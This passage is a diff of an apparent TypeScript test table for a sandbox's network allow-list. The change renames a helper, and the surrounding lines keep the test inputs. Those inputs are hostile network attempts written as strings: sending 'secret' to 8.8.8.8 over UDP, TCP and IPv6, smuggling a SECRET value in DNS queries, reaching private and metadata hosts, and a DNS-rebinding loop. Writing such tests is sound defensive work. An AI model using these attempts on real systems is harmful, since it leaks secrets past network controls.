@@ -1,6 +1,6 @@
 /** Y: the network by name: what a list must not let out (S30, S31). */
 import { BOTH, type Row } from "../frame/attack.ts";
-import { LISTED, OTHER, outward, PORT, UNLISTED_PORT } from "../means/own_machine.ts";
+import { LISTED, OTHER, outwardInOne, PORT, UNLISTED_PORT } from "../means/own_machine.ts";
 
 /** A question for a name in raw labels, sent to the resolver. */
 function question(labels: string, { type = 1, dnsClass = 1, tcp = false } = {}): string {
@@ -23,7 +23,7 @@ export const NETWORK_NAMES: readonly Row[] = [
     users: BOTH,
     aim: "evidence",
     ways: {
-      "public, private, of the machine, of metadata": outward(
+      "public, private, of the machine, of metadata": outwardInOne(
         Object.fromEntries(
           ([
             ["8.8.2.2", PORT],
@@ -54,7 +54,7 @@ export const NETWORK_NAMES: readonly Row[] = [
     users: BOTH,
     aim: "evidence",
     ways: {
-      "to the resolver": outward({
+      "to the resolver": outwardInOne({
         ...Object.fromEntries(
           Object.entries({ A: 1, AAAA: 28, TXT: 16, HTTPS: 65, NULL: 10, ANY: 255, AXFR: 252 })
             .map(([name, type]) => [name, question(SECRET, { type })]),
@@ -67,7 +67,7 @@ export const NETWORK_NAMES: readonly Row[] = [
         "a control byte": question('[b"named\\n", b"example", b"test"]'),
         "by the system's functions": `socket.getaddrinfo("secret.other.test", 80)`,
       }, /^dns /),
-      "to another one": outward({
+      "to another one": outwardInOne({
         "over UDP": `peer = socket.socket(2, 2)\npeer.sendto(b"secret", ("8.8.8.8", 53))`,
         "over TCP": `talk("8.8.8.8", 53, b"secret")`,
         "over IPv6": `peer = socket.socket(10, 2)\npeer.sendto(b"secret", ("2620:fe::fe", 53))`,
@@ -80,7 +80,7 @@ export const NETWORK_NAMES: readonly Row[] = [
     users: BOTH,
     aim: "evidence",
     ways: {
-      "connect": outward(
+      "connect": outwardInOne(
         Object.fromEntries([
           OTHER,
           "below.example.test",
@@ -92,7 +92,7 @@ export const NETWORK_NAMES: readonly Row[] = [
         ].map((host) => [host, `talk("${host}", ${PORT})`])),
         /^(?:open|data) /,
       ),
-      "a listed name on another port": outward(
+      "a listed name on another port": outwardInOne(
         { "connect": `talk("${LISTED}", ${UNLISTED_PORT})`, "of a list below": `talk("a.below.example.test", 443)` },
         /^(?:open|data) /,
       ),
@@ -104,11 +104,11 @@ export const NETWORK_NAMES: readonly Row[] = [
     users: BOTH,
     aim: "evidence",
     ways: {
-      "a private network, this machine, the local link": outward(
+      "a private network, this machine, the local link": outwardInOne(
         Object.fromEntries(["private", "own", "meta"].map((one) => [one, `talk("${one}.example.test", ${PORT})`])),
         /^(?:open|data) /,
       ),
-      "answers that change at each question": outward(
+      "answers that change at each question": outwardInOne(
         {
           "eight connections": `for _ in range(8):
   try: talk("rebind.example.test", ${PORT})
